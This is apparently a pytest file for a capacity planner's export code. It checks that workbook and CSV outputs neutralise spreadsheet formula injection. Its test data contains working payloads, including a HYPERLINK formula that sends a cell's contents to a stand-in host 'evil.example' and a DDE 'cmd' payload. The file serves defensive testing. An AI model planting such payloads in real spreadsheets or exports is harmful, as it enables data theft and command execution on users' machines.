"""Hostile inputs, interrupts and exports: never a traceback, a wrong plan, a lost file or a live formula.

Each test names the kind of failure it guards against (issue 12).
"""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
import yaml

from planner.pipeline import plan_document, run_plan
from planner.scenario import load_scenario
from reports.cells import FORMULA_LEADS, neutral_text
from scenario_files import CATALOG_COLUMNS, SITE_COLUMNS, WORKLOAD_COLUMNS, sku

ROOT = Path(__file__).resolve().parents[1]

# ------------------------------------------------------------------ formula injection

# OWASP's examples and the issue's: each would run, link or compute if a spreadsheet took it as a formula.
HOSTILE_WORKLOADS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0")
HOSTILE_OWNED_SITE = "+SUM(1,2)"
HOSTILE_CLOUD_SITE = "-2+3"
HOSTILE_SKU = "@SUM(1)"
HOSTILE_NAMES = (*HOSTILE_WORKLOADS, HOSTILE_OWNED_SITE, HOSTILE_CLOUD_SITE, HOSTILE_SKU)

# Every module that writes a spreadsheet sheet or a CSV, and the call that exercises it below. A new writer
# (a `compare` or `sweep` export) fails `test_every_writer_is_enumerated` until it is added here.
WRITER_PATTERN = re.compile(r"\.to_csv\(|csv\.writer\(|create_sheet\(|\bWorkbook\(\)|\.to_excel\(")
ENUMERATED_WRITERS = {"reports/workbook.py", "reports/risk_sheets.py", "reports/csv_writer.py"}


def write_csv(path: Path, columns: list[str], rows: list[dict]) -> None:
    """Properly quoted CSV (the hostile names hold commas and quotes)."""
    with open(path, "w", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=columns)
        writer.writeheader()
        writer.writerows(rows)


def hostile_scenario(folder: Path) -> Path:
    """Owned site `+SUM(1,2)` holds one node (10 kW cap), so the second workload's demand is served by renting
    at the cloud site `-2+3`, and some is left unmet in the last quarter: every table (purchases, rentals,
    placement, unmet, fleet) and the risk shortfall rows carry the hostile names."""
    folder.mkdir(parents=True, exist_ok=True)
    write_csv(folder / "catalog.csv", CATALOG_COLUMNS,
              [sku(sku=HOSTILE_SKU, rent_usd_per_gpu_hour=1.0, idle_frac=0.3, source="=1+1")])
    write_csv(folder / "sites.csv", SITE_COLUMNS,
              [dict(site=HOSTILE_OWNED_SITE, kind="owned", power_mw=0.01, pue=1.0, usd_per_kwh=0.1,
                    gco2_per_kwh=400, racks=10),
               dict(site=HOSTILE_CLOUD_SITE, kind="cloud", power_mw="", pue=1.0, usd_per_kwh="", gco2_per_kwh=0,
                    racks="")])
    first, second = HOSTILE_WORKLOADS
    write_csv(folder / "workloads.csv", WORKLOAD_COLUMNS,
              [dict(workload=first, kind="inference", params_b=8, precision="bf16", context_tokens=1000,
                    sites=HOSTILE_OWNED_SITE),
               dict(workload=second, kind="inference", params_b=8, precision="bf16", context_tokens=1000)])
    write_csv(folder / "demand.csv", ["workload", "quarter", "tokens_per_s"],
              [dict(workload=first, quarter="2027Q1", tokens_per_s=1000),
               dict(workload=first, quarter="2027Q2", tokens_per_s=1500),
               dict(workload=second, quarter="2027Q1", tokens_per_s=2000)])
    write_csv(folder / "throughput.csv", ["workload", "sku", "tokens_per_s_per_node"],
              [dict(workload=w, sku=HOSTILE_SKU, tokens_per_s_per_node=1000) for w in HOSTILE_WORKLOADS])
    config = {"name": "=HYPERLINK(\"x\")", "start": "2027Q1", "quarters": 2, "catalog": "catalog.csv",
              "sites": "sites.csv", "workloads": "workloads.csv", "demand": "demand.csv",
              "throughput": "throughput.csv", "finance": {"unmet_usd_per_unit": 30.0}}
    path = folder / "scenario.yaml"
    path.write_text(yaml.safe_dump(config, sort_keys=False))
    return path


@pytest.fixture(scope="module")
def hostile_outputs(tmp_path_factory) -> Path:
    """The workbook (with Risk and Sensitivity sheets) and the CSV tables of the hostile scenario's plan."""
    from models.risk import evaluate_plan
    from reports.csv_writer import write_csv_tables
    from reports.workbook import write_workbook

    root = tmp_path_factory.mktemp("hostile")
    scenario = load_scenario(hostile_scenario(root / "in"))
    plan = plan_document(run_plan(scenario, backend="scip", time_limit_s=30, gap=1e-9))
    assert plan["rentals"] and plan["unmet"], "the scenario should rent and leave demand unmet"
    risk = evaluate_plan(scenario, plan, samples=64, seed=0)
    write_workbook(root / "plan.xlsx", plan, scenario, risk=risk)
    write_csv_tables(root / "csv", plan, scenario)
    return root


def test_every_writer_is_enumerated():
    """Every module that writes a sheet or a CSV is one the hostile-name tests below exercise."""
    writers = {str(path.relative_to(ROOT)) for folder in ("planner", "models", "reports")
               for path in (ROOT / folder).rglob("*.py") if WRITER_PATTERN.search(path.read_text())}
    assert writers <= ENUMERATED_WRITERS, f"writers not covered by the formula-injection test: {writers - ENUMERATED_WRITERS}"
    assert writers, "the scan found no writer at all: the pattern is broken"


def test_neutral_text_follows_owasp():
    for name in HOSTILE_NAMES + ("\tx", "\rx"):
        assert neutral_text(name) == "'" + name
    for safe in ("chat", "A", "2027Q1", "", "a=b", "x-1"):
        assert neutral_text(safe) == safe
    for number in (-2, -2.5, 3, 0.0):
        assert neutral_text(number) == number  # numbers stay numbers
    assert set(FORMULA_LEADS) == {"=", "+", "-", "@", "\t", "\r"}


def test_workbook_sheets_hold_hostile_names_as_text(hostile_outputs):
    """Every sheet, Risk and Sensitivity included: a cell holding input text is a string with Excel's quote
    prefix; no formula the planner writes mentions an input name."""
    book = openpyxl.load_workbook(hostile_outputs / "plan.xlsx")
    assert {"Risk", "Sensitivity"} <= set(book.sheetnames)
    seen, sheets_seen = set(), set()
    for ws in book:
        for row in ws.iter_rows():
            for cell in row:
                value = cell.value
                if not isinstance(value, str):
                    continue
                if cell.data_type == "f":
                    assert not any(name in value for name in HOSTILE_NAMES), (ws.title, cell.coordinate, value)
                    continue
                if value.startswith(FORMULA_LEADS):
                    assert cell.quotePrefix, (ws.title, cell.coordinate, value)
                if value in HOSTILE_NAMES:
                    seen.add(value)
                    sheets_seen.add(ws.title)
    assert seen == set(HOSTILE_NAMES)
    assert {"Placement", "Rentals", "Fleet", "Unmet", "Risk"} <= sheets_seen
    with zipfile.ZipFile(hostile_outputs / "plan.xlsx") as archive:
        for member in archive.namelist():
            if member.startswith("xl/worksheets/sheet"):
                formulas = re.findall(r"<f>([^<]*)</f>", archive.read(member).decode())
                assert not [f for f in formulas if re.search(r"HYPERLINK|cmd|SUM\(1", f)], member


def test_csv_fields_never_start_a_formula(hostile_outputs):
    """Every field of every CSV: text that would start a formula carries the `'` prefix; numbers stay numbers."""
    files = sorted((hostile_outputs / "csv").glob("*.csv"))
    assert len(files) >= 10
    quoted = set()
    for path in files:
        with open(path, newline="") as handle:
            for line in csv.reader(handle):
                for field in line:
                    if field.startswith(FORMULA_LEADS):
                        float(field)  # only a negative number may start with '-' (raises on text)
                    if field.startswith("'") and field[1:] in HOSTILE_NAMES:
                        quoted.add(field[1:])
    assert quoted == set(HOSTILE_NAMES)
